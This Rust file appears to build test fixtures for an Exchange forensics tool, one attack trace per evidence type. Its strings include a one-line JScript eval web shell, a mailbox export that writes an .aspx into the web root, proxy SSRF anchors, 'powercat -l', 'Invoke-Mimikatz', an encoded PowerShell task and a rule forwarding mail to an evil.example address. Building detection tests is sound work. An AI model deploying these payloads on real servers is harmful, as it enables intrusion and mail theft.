//! Traces: of each kind of evidence one that gives an attack away all alone, with everything else of the server quiet.

use evidence::Moment;

use super::written::{event_row, ews_row, iis_row, listed, place_of, sysmon_row, tracking_row};
use super::{History, PROXIES};

/// An address from which servers were attacked in March 2021. Nobody may call it.
const KNOWN: &str = "103.77.192.219";
const EXCHANGE: &str = r"C:\Program Files\Microsoft\Exchange Server\V15";
const WEB_HEAD: &str = "FullName,Length,CreationTimeUtc,LastWriteTimeUtc,SHA256\n";
/// Protocols of the front end of which only some servers have logs.
const RARE: [&str; 5] = [
    "OwaCalendar",
    "PowerShellGateway",
    "PushNotifications",
    "ReportingWebService",
    "Rest",
];

/// What gives an attack away.
#[derive(Clone, Debug)]
pub(crate) struct Trace {
    /// Its name in the messages of a test.
    pub(crate) name: String,
    /// The file in which it stands, and no other.
    pub(crate) file: String,
    pub(crate) content: String,
    /// How the list of log files names it, where that does not do so already.
    pub(crate) listed: Option<String>,
    /// Further files that change with it, and give nothing away.
    pub(crate) beside: Vec<(String, String)>,
}

impl Trace {
    fn new(name: &str, file: String, content: String) -> Self {
        Self {
            name: name.to_owned(),
            file,
            content,
            listed: None,
            beside: Vec::new(),
        }
    }

    fn listed(self, path: String) -> Self {
        Self {
            listed: Some(path),
            ..self
        }
    }
}

impl History {
    /// One trace for each kind of evidence in which an attack may stand.
    pub(crate) fn traces(&self) -> Vec<Trace> {
        // Late enough to lie in 2021, whenever the life began.
        let at = Moment::of_hour(self.begin + self.hours - 20).plus_ms(77_000);
        let logs = self.traces_in_logs(at).into_iter();
        logs.chain(self.traces_in_further_logs(at))
            .chain(traces_in_events(at))
            .chain(traces_in_lists_and_exports(at))
            .collect()
    }

    fn traces_in_logs(&self, at: Moment) -> Vec<Trace> {
        let build = self.build_at(at.hour()).0;
        let mut rows: Vec<(String, String)> = PROXIES
            .into_iter()
            .chain(RARE)
            .map(|protocol| {
                let anchor = "ServerInfo~a]@mail01.example.org:444/x/y.z?#";
                let row = self.proxy_row(
                    at,
                    protocol,
                    "/ecp/y.js",
                    "",
                    anchor,
                    "203.0.113.9",
                    200,
                    "POST",
                );
                (format!("HttpProxy {protocol}"), row)
            })
            .collect();
        let mut put = |kind: &str, row: String| rows.push((kind.to_owned(), row));
        put(
            "IIS",
            iis_row(at, "POST", "/aspnet_client/q.aspx", "-", "203.0.113.9", 200),
        );
        let user = "MAIL01$@example.org";
        put("EWS", ews_row(at, build, user, "203.0.113.9", "FindItem"));
        put(
            "ECP server",
            format!(
                "{at},MAIL01,ECP.Request,\"S:TIME=9;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script>'.Identity='1';S:REQID=;S:EX=\""
            ),
        );
        put(
            "OAB generator",
            format!(
                r"{at},OABGeneratorAssistant,Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\q.aspx' needs to be removed"
            ),
        );
        let export = r#"-Mailbox ""anna"" -FilePath ""\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\q.aspx"""#;
        put(
            "remote PowerShell commands",
            self.cmdlet_row(at, "New-MailboxExportRequest", export),
        );
        let delivered = tracking_row(
            at,
            build,
            "STOREDRIVER",
            "DELIVER",
            "anna@example.org",
            "b@example.com",
        );
        put("message tracking", delivered.replace("10.0.0.9", KNOWN));
        let day = at.hour() / 24;
        let traces = rows.into_iter().map(|(kind, row)| {
            let (path, head) = place_of(&kind, day, 0);
            let name = |path: &str| path.replace(".LOG", "-9.LOG").replace(".log", "-9.log");
            Trace::new(&kind, name(&path), format!("{head}{row}\n"))
                .listed(name(&listed(&kind, day)))
        });
        traces.collect()
    }

    /// Logs that show only from where somebody came.
    fn traces_in_further_logs(&self, at: Moment) -> Vec<Trace> {
        let smtp = format!(
            r"{at},MAIL01\Default,08DA4F7C11473A60,9,10.0.0.5:25,{KNOWN}:53722,>,220 hello"
        );
        let imap = format!("{at},000000000000000E,2,10.0.0.5:143,{KNOWN}:35070,u,1,1,1,login,,OK");
        let other = format!("{at},x,{KNOWN}");
        let logs = [
            (
                "SMTP protocol",
                r"TransportRoles\Logs\FrontEnd\ProtocolLog\SmtpReceive\RECV1-1.LOG",
                "SMTP Receive Protocol Log",
                smtp,
            ),
            (
                "IMAP protocol",
                r"Logging\Imap4\IMAP1-1.LOG",
                "IMAP4 Log",
                imap,
            ),
            (
                "ECP activity",
                r"Logging\ECP\Activity\ECPActivity1-1.LOG",
                "ECP Activity Context Log",
                other.clone(),
            ),
            (
                "admin audit",
                r"Logging\LocalQueue\Exchange\audit1-1.LOG",
                "audit",
                other.clone(),
            ),
            (
                "other logs",
                r"Logging\MAPI Client Access\MapiClientAccess1-1.LOG",
                "MAPI Client Access Logs",
                other,
            ),
        ];
        let traces = logs.into_iter().map(|(name, path, log, row)| {
            let content =
                format!("#Software: Microsoft Exchange Server\n#Log-type: {log}\n{row}\n");
            Trace::new(name, format!("logs/{}", path.replace('\\', "/")), content)
                .listed(format!(r"{EXCHANGE}\{path}"))
        });
        traces.collect()
    }
}

fn traces_in_events(at: Moment) -> Vec<Trace> {
    let shell = "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl \"http://f/<script>\".";
    let voice = serde_json::json!({
        "Channel": "Application", "SourceName": "MSExchange Unified Messaging", "EventID": 1082, "Level": 2,
        "TimeCreated": at.to_string(), "Message": "System.InvalidCastException: Unable to cast object",
    });
    let started = [
        ("NewProcessName", r"C:\Windows\System32\cmd.exe"),
        ("ParentProcessName", r"C:\Windows\System32\inetsrv\w3wp.exe"),
        ("CommandLine", "cmd /c whoami"),
    ];
    let service = [("ServiceName", "x"), ("ImagePath", "cmd.exe /c x.bat")];
    let program = [
        ("Image", r"C:\Windows\System32\cmd.exe"),
        ("ParentImage", r"C:\Windows\System32\inetsrv\w3wp.exe"),
        ("CommandLine", "cmd /c whoami"),
    ];
    let page = [
        ("Image", r"C:\Windows\System32\cmd.exe"),
        ("TargetFilename", r"C:\inetpub\wwwroot\aspnet_client\q.aspx"),
    ];
    let operational = "Microsoft-Windows-PowerShell/Operational";
    let events = [
        ("Application", voice.to_string()),
        ("Security", event_row(at, "Security", 4688, "", &started)),
        ("System", event_row(at, "System", 7045, "", &service)),
        (
            "MSExchange Management",
            event_row(at, "MSExchange Management", 1, shell, &[]),
        ),
        (
            "Windows PowerShell",
            event_row(at, "Windows PowerShell", 800, "powercat -l", &[]),
        ),
        (
            "PowerShell",
            event_row(at, operational, 4104, "Invoke-Mimikatz", &[]),
        ),
        ("Sysmon", sysmon_row(at, 1, &program)),
        ("Sysmon", sysmon_row(at, 11, &page)),
    ];
    let traces = events.into_iter().map(|(channel, row)| {
        let name = format!("events {channel}");
        let list = listed(&name, 0);
        Trace::new(
            &name,
            format!("events/{channel}-9.jsonl"),
            format!("{row}\n"),
        )
        .listed(list)
    });
    traces.collect()
}

fn traces_in_lists_and_exports(at: Moment) -> Vec<Trace> {
    let time = at.to_string().replace(['T', 'Z'], " ");
    let web = format!("{WEB_HEAD}C:\\inetpub\\wwwroot\\aspnet_client\\q.aspx,20,{time},{time},\n");
    let cache = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\e22c2559\92c7e946";
    let compiled =
        format!("FullName,Length,CreationTimeUtc\n{cache}\\q.aspx.5a3dcb8f.compiled,30,{time}\n");
    let logon = format!(r"{EXCHANGE}\FrontEnd\HttpProxy\owa\auth\logon.aspx");
    let changed = format!("{WEB_HEAD}{logon},20,{time},{time},{}\n", "ab".repeat(32));
    let unhashed = format!("{WEB_HEAD}{logon},20,{time},{time},\n");
    let shell = "<%@ Page Language=\"JScript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>";
    let page = |name: &str, list: String| Trace {
        beside: vec![("exports/web-files.csv".to_owned(), list)],
        ..Trace::new(
            name,
            format!("files/{}", logon.replace("C:", "C").replace('\\', "/")),
            shell.to_owned(),
        )
    };
    let audit = serde_json::json!({
        "CreationTime": at.to_string(), "Operation": "Set-OabVirtualDirectory", "Workload": "Exchange", "UserId": "x", "ObjectId": "OAB",
        "Parameters": [{"Name": "ExternalUrl", "Value": "http://f/<script>"}],
    });
    let cloud = Trace {
        beside: vec![(
            "exports/hybrid-configuration.csv".to_owned(),
            "Name,Features\nHybrid,x\n".to_owned(),
        )],
        ..Trace::new(
            "audit log of Microsoft 365",
            "cloud/audit.jsonl".to_owned(),
            format!("{audit}\n"),
        )
    };
    let exports = [
        ("web-files.csv", web.as_str()),
        ("compiled-pages.csv", &compiled),
        (
            "applicationHost.config",
            r#"<configuration><globalModules><add name="X" image="C:\ProgramData\x.dll" /></globalModules></configuration>"#,
        ),
        (
            "inbox-rules.csv",
            "Name,MailboxOwnerId,ForwardTo,DeleteMessage\n.,anna,x@evil.example,True\n",
        ),
        (
            "mailbox-permissions.csv",
            "Identity,User,AccessRights,IsInherited,Deny\nanna,Everyone,FullAccess,False,False\n",
        ),
        (
            "folder-permissions.csv",
            "Identity,FolderName,User,AccessRights\nanna,Inbox,Default,Reviewer\n",
        ),
        (
            "transport-agents.csv",
            "Identity,Enabled,TransportAgentFactory,AssemblyPath\nEvil,True,hack,C:\\x.dll\n",
        ),
        (
            "virtual-directories.csv",
            "Identity,InternalUrl,ExternalUrl\nOAB,https://m/OAB,http://f/<script>\n",
        ),
        (
            "scheduled-tasks.csv",
            "TaskName,TaskPath,Actions\nx,\\,powershell -enc AAAA\n",
        ),
    ];
    let exports = exports
        .into_iter()
        .map(|(name, content)| Trace::new(name, format!("exports/{name}"), content.to_owned()));
    exports
        .chain([
            page("changed page", changed),
            page("page listed without a hash", unhashed),
            cloud,
        ])
        .collect()
}
